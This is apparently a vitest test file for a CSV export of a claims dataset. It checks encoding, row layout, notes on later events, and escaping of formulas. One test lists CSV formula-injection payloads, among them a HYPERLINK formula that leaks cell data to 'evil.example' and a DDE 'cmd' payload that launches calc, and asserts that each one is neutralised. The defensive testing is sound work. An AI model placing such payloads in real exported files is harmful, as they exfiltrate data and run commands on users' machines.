import fc from 'fast-check';
import papaparse from 'papaparse';
import { describe, expect, it } from 'vitest';
import { toCsv } from '../../../core/export/csv.ts';
import type { Later } from '../../../core/schema/later.ts';
import { readDataset } from '../../../scripts/build/read-dataset.ts';
import { fictionalProfile, laterEntry, withClaim } from '../fictional.ts';
import { wholeOf } from './contents.ts';

type Row = Record<string, string>;

function read(csv: string): Row[] {
  const { data, errors } = papaparse.parse<Row>(csv.replace(/^\ufeff/, ''), { header: true, skipEmptyLines: true });
  expect(errors).toEqual([]);
  return data;
}

/** Every cell of a table with one claim, whose texts are all these words, as a malicious source might write them. */
function cellsWith(words: string): string[] {
  const profile = { ...withClaim('ledger-p02-01', { text: words }), later: [laterEntry({ text: words })] };
  const contents = wholeOf({ ...profile, name: words });
  const claims = contents.claims.filter(({ id }) => id === 'ledger-p02-01');
  const sources = contents.sources.map((source) => ({ ...source, title: words, publisher: words }));
  const entities = contents.entities.map((entity) => ({ ...entity, name: words }));
  return read(toCsv({ ...contents, claims, sources, entities })).flatMap((row) => Object.values(row));
}

describe('CSV', () => {
  it('is UTF-8 with a byte order mark, and rows end as RFC 4180 says', () => {
    const csv = toCsv(wholeOf());
    expect(csv.startsWith('\ufeff"id","section",')).toBe(true);
    expect(csv.endsWith('"\r\n')).toBe(true);
    expect(csv.split('\r\n')).toHaveLength(1 + 7 + 1);
  });

  it('has one row a claim, in the order of the view, and what is needed to weigh it', () => {
    const rows = read(toCsv(wholeOf({ ...fictionalProfile(), later: [laterEntry()] })));
    expect(rows.map(({ id }) => id)).toEqual([
      'ledger-p01-01',
      'ledger-p01-02',
      'ledger-p01-03',
      'ledger-p02-01',
      'ledger-p02-02',
      'ledger-p02-03',
      'ledger-p02-04',
    ]);
    expect(rows[3]).toMatchObject({
      said_by: 'The Ledger',
      as_of: '2020-05-04',
      status: 'changed since: pumps stopped in 2022',
      kind: 'fact',
      text: 'In May 2020 statement ledger-p02-01 was made about Acme.',
      source_section: 'The river',
      source_paragraph: '2',
      source_url: 'https://ledger.example/acme',
      nearest_archived_copy: 'https://archive.example/ledger.example/acme',
      entities: 'Acme',
      later_count: '1',
      later:
        '2022-03-04 Changed since: pumps stopped in 2022 (The Gazette; single report): In March 2022 Acme stopped its pumps. https://gazette.example/pumps [later-pumps-2022]',
      dataset_version: '2026.1.1',
      licence: 'CC BY 4.0',
    });
  });

  it('has a line in the cell for each thing that happened since', () => {
    const profile = { ...fictionalProfile(), later: [laterEntry({ id: 'a' }), laterEntry({ id: 'b' })] };
    const row = read(toCsv(wholeOf(profile))).find(({ id }) => id === 'ledger-p02-01');
    expect(row?.later?.split('\n').map((line) => line.slice(-3))).toEqual(['[a]', '[b]']);
    expect(row?.later_count).toBe('2');
  });

  it('says at each claim what an entry does to that claim, and which part', () => {
    const concerns: Later['concerns'] = [
      { claim: 'ledger-p02-01', how: 'corrects', touches: 'detail', what: 'the name of a pump' },
      { claim: 'ledger-p02-02', how: 'supports' },
    ];
    const rows = read(toCsv(wholeOf({ ...fictionalProfile(), later: [laterEntry({ concerns })] })));
    const [corrected, supported] = rows.filter(({ later_count }) => later_count === '1');
    expect(corrected?.status).toBe('a detail corrected: the name of a pump');
    expect(corrected?.later).toMatch(/^2022-03-04 Correction: the name of a pump \(/);
    expect(supported?.status).toBe('as reported');
    expect(supported?.later).toMatch(/^2022-03-04 Supported \(/);
  });

  it.each<[Later['concerns'][number], string]>([
    [{ claim: 'ledger-p02-01', how: 'adds' }, '2019 Before the report ('],
    [{ claim: 'ledger-p02-01', how: 'answers' }, '2019 Answer, before the report ('],
    [
      { claim: 'ledger-p02-01', how: 'corrects', touches: 'substance', what: 'the river' },
      '2019 Correction, before the report: the river (',
    ],
  ])('says of %j, where it is older than the report, that it was before', (tie, words) => {
    const later = [laterEntry({ date: '2019', speaker: 'Acme', concerns: [tie] })];
    const row = read(toCsv(wholeOf({ ...fictionalProfile(), later }))).find(({ id }) => id === 'ledger-p02-01');
    expect(row?.later?.startsWith(words)).toBe(true);
    expect(row?.later).not.toContain('Since then');
  });

  it('has its head where nothing is in view', () => {
    expect(toCsv({ ...wholeOf(), claims: [] })).toMatch(/^\ufeff"id",.*"licence"\r\n$/);
  });

  it.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '  =1+1',
    '\u00a0=1+1',
    '\u200b=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
    '=1+1\n=2+2',
    '=HYPERLINK("https://evil.example?x="&A1,"more")',
    '","=1+1',
    '"\r\n=1+1',
    "=cmd|' /C calc'!A0",
  ])('never begins a cell with what a spreadsheet works out: %j', (words) => {
    for (const cell of cellsWith(words)) expect(cell).not.toMatch(/^[\s\u200b]*[=+\-@＝＋－＠]|^[\t\r\n]/);
  });

  it('gives every text back, but for the apostrophe before a formula', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme' }), (words) => {
        const contents = wholeOf(withClaim('ledger-p02-01', { text: words }));
        const row = read(toCsv(contents)).find(({ id }) => id === 'ledger-p02-01');
        expect([words, `'${words}`]).toContain(row?.text);
      }),
    );
  });

  it('holds the whole real dataset', () => {
    const [profile] = readDataset().profiles;
    if (!profile) throw new Error('no profile');
    const rows = read(toCsv(wholeOf(profile)));
    expect(rows.map(({ id, text }) => ({ id, text }))).toEqual(profile.claims.map(({ id, text }) => ({ id, text })));
    const counted = rows.reduce((sum, { later_count }) => sum + Number(later_count), 0);
    expect(counted).toBe(profile.later.reduce((sum, { concerns }) => sum + concerns.length, 0));
  });
});
